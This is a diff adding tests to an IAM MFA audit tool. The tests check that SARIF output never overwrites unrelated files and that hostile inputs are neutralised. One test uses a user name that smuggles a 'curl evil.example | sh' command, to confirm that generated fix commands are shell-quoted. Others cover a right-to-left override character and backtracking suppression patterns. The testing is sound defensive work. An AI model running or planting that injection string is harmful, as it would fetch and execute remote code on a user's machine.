@@ -100,6 +100,18 @@ const withReport =
 const REJECTED_SARIF = (why: string) => (s: Setup) =>
   `sarif-file ${JSON.stringify(s.sarif)}: ${why}; give the path of a regular file to write the SARIF log to.`;
 
+/** A project file that reads like this tool's SARIF log in its first bytes, and is not one. */
+const PACKAGE_JSON = `${JSON.stringify({ name: 'iam-mfa-audit', version: '2.1.0', private: true }, null, 2)}\n`;
+/** An earlier log of this tool, with no results. */
+const EARLIER_LOG = `${JSON.stringify({
+  version: '2.1.0',
+  runs: [{ tool: { driver: { name: 'iam-mfa-audit' } }, results: [] }],
+})}\n`;
+const CODEQL_SARIF = `${JSON.stringify({
+  version: '2.1.0',
+  runs: [{ tool: { driver: { name: 'CodeQL' } }, results: [] }],
+})}\n`;
+
 const CASES: Case[] = [
   // Output paths: nothing is replaced that was not a SARIF log.
   {
@@ -170,6 +182,37 @@ const CASES: Case[] = [
     line: REJECTED_SARIF('is a file that is not a SARIF log, which it would overwrite'),
     after: (s) => {
       expect(readFileSync(s.sarif, 'utf8')).toBe('# my notes\n');
+    },
+  },
+  {
+    name: "sarif-file is a package.json whose version is 2.1.0 and whose name is this tool's",
+    setup: (dir) => ({
+      report: exampleReport,
+      sarif: write(dir, 'package.json', PACKAGE_JSON),
+    }),
+    line: REJECTED_SARIF('is a file that is not a SARIF log, which it would overwrite'),
+    after: (s) => {
+      expect(readFileSync(s.sarif, 'utf8')).toBe(PACKAGE_JSON);
+    },
+  },
+  {
+    name: 'sarif-file is such a package.json, and an input is wrong: the failed run removes nothing',
+    setup: (dir) => ({
+      report: exampleReport,
+      sarif: write(dir, 'package.json', PACKAGE_JSON),
+      inputs: { 'fail-on': 'bogus' },
+    }),
+    line: () => /^(input |--)fail-on/,
+    after: (s) => {
+      expect(readFileSync(s.sarif, 'utf8')).toBe(PACKAGE_JSON);
+    },
+  },
+  {
+    name: "sarif-file is another tool's SARIF log",
+    setup: (dir) => ({ report: exampleReport, sarif: write(dir, 'codeql.sarif', CODEQL_SARIF) }),
+    line: REJECTED_SARIF('is the SARIF log of another tool ("CodeQL"), which it would overwrite'),
+    after: (s) => {
+      expect(readFileSync(s.sarif, 'utf8')).toBe(CODEQL_SARIF);
     },
   },
   {
@@ -402,7 +445,7 @@ describe('special files and links the SARIF is pointed at', () => {
   });
 
   it('follows a link to an earlier log: the link stays, its target gets the new log', () => {
-    const target = write(dir(), 'target.sarif', '{ "version": "2.1.0", "runs": [] }\n');
+    const target = write(dir(), 'target.sarif', EARLIER_LOG);
     const link = join(dir(), 'link.sarif');
     symlinkSync(target, link);
     const exit = runCli(node24, ['--credential-report', exampleReport, '--sarif-file', link]);
@@ -609,5 +652,125 @@ describe('past IAM limits', () => {
     ]);
     expect(step.outputs).toEqual({ result: 'error' });
     expect(existsSync(sarifFile)).toBe(false);
+  });
+});
+
+describe('strings that would act', () => {
+  const dir = useTempDir();
+  const HOSTILE_USER = 'a;curl -s evil.example|sh;#';
+
+  it('carries a fix command for a user named like a shell command only shell-quoted', () => {
+    const report = write(
+      dir(),
+      'report.csv',
+      reportCsv([aRootRow(), aRow({ user: HOSTILE_USER })]),
+    );
+    const sarifFile = join(dir(), 'audit.sarif');
+    const exit = runCli(node24, [
+      '--credential-report',
+      report,
+      '--sarif-file',
+      sarifFile,
+      '--format',
+      'json',
+    ]);
+    expect(exit.status).toBe(1);
+    const quoted = `aws iam create-virtual-mfa-device --virtual-mfa-device-name '${HOSTILE_USER}' --outfile '${HOSTILE_USER}-qr.png' --bootstrap-method QRCodePNG`;
+    const json = JSON.parse(exit.stdout) as {
+      findings: { user: string; fix: { command: string | null } }[];
+    };
+    expect(json.findings.find((f) => f.user === HOSTILE_USER)?.fix.command).toBe(quoted);
+    const fixes = onlyRun(sarifAt(sarifFile)).results.map(
+      (r) => r.properties?.fixCommand as unknown,
+    );
+    expect(fixes).toContain(quoted);
+    const step = runAction(dir(), { 'credential-report': report, 'sarif-file': sarifFile });
+    expect(step.summary).toContain('# 1 user whose name IAM would not accept: see the SARIF file');
+    expect(step.summary).not.toContain('--virtual-mfa-device-name a;');
+  });
+
+  it("escapes a direction mark in a suppression's reason in the JSON and the SARIF, as bytes", () => {
+    const suppressions = write(
+      dir(),
+      'suppressions.yml',
+      'suppressions:\n  - rule: aws-iam-002\n    principal: bob\n    reason: "ok \u202etxt.exe"\n    expires: 2099-01-01\n',
+    );
+    const sarifFile = join(dir(), 'audit.sarif');
+    const exit = runCli(node24, [
+      '--credential-report',
+      exampleReport,
+      '--suppressions-file',
+      suppressions,
+      '--sarif-file',
+      sarifFile,
+      '--format',
+      'json',
+    ]);
+    expect(exit.status).toBe(1);
+    const sarif = readFileSync(sarifFile, 'utf8');
+    expect(exit.stdout).not.toContain('\u202e');
+    expect(sarif).not.toContain('\u202e');
+    const json = JSON.parse(exit.stdout) as {
+      findings: { user: string; accepted: { reason: string } | null }[];
+    };
+    // The JSON keeps the value and escapes the character; the SARIF's free text shows it.
+    expect(json.findings.find((f) => f.user === 'bob')?.accepted?.reason).toBe('ok \u202etxt.exe');
+    expect(exit.stdout).toContain('"ok \\u202etxt.exe"');
+    const [suppression] = onlyRun(sarifAt(sarifFile)).results.flatMap((r) => r.suppressions ?? []);
+    expect(suppression?.justification).toBe('ok \\u202etxt.exe');
+  });
+
+  it('stops, naming an entry, when a thousand patterns share the start of every ARN', () => {
+    const users = Array.from({ length: 19_999 }, (_, i) => aRow({ user: `user-${i}` }));
+    const report = write(dir(), 'report.csv', reportCsv([aRootRow(), ...users]));
+    const entries = Array.from(
+      { length: 1_000 },
+      (_, i) => `- {rule: "*", principal: "arn:*k${i}*", reason: r, expires: 2099-01-01}`,
+    );
+    const suppressions = write(dir(), 'shared.yml', `suppressions:\n${entries.join('\n')}\n`);
+    const sarifFile = join(dir(), 'shared.sarif');
+    const exit = runCli(node24, [
+      '--credential-report',
+      report,
+      '--suppressions-file',
+      suppressions,
+      '--sarif-file',
+      sarifFile,
+    ]);
+    expect(exit.status).toBe(2);
+    expect(exit.stderr).toBe(
+      `iam-mfa-audit: suppressions-file: ${suppressions} entry 1 (line 2): principal: the pattern "arn:*k0*" is tried against nearly every finding, with others like it, more than 10,000,000 times in all; begin or end each pattern with a user name or the path of an ARN\n`,
+    );
+    expect(existsSync(sarifFile)).toBe(false);
+  });
+
+  it('matches 15,000 suppression patterns, a backtracking trap among them, against 20,000 principals', () => {
+    const users = Array.from({ length: 19_999 }, (_, i) => aRow({ user: `user-${i}` }));
+    const report = write(dir(), 'report.csv', reportCsv([aRootRow(), ...users]));
+    const entries = Array.from(
+      { length: 15_000 },
+      (_, i) => `- {rule: "*", principal: "x${i}*", reason: r, expires: 2099-01-01}`,
+    );
+    entries.push(`- {rule: "*", principal: "${'*?'.repeat(30)}#", reason: r, expires: 2099-01-01}`);
+    entries.push(`- {rule: "*", principal: "user-1999?", reason: r, expires: 2099-01-01}`);
+    const suppressions = write(dir(), 'many.yml', `suppressions:\n${entries.join('\n')}\n`);
+    const exit = runCli(node24, [
+      '--credential-report',
+      report,
+      '--suppressions-file',
+      suppressions,
+      '--sarif-file',
+      join(dir(), 'many.sarif'),
+      '--format',
+      'json',
+    ]);
+    expect(exit.stderr).toBe('');
+    expect(exit.status).toBe(1);
+    const json = JSON.parse(exit.stdout) as {
+      findings: { user: string; accepted: unknown }[];
+    };
+    expect(json.findings.filter((f) => f.accepted !== null).map((f) => f.user)).toEqual(
+      Array.from({ length: 9 }, (_, i) => `user-1999${i}`),
+    );
   });
 });
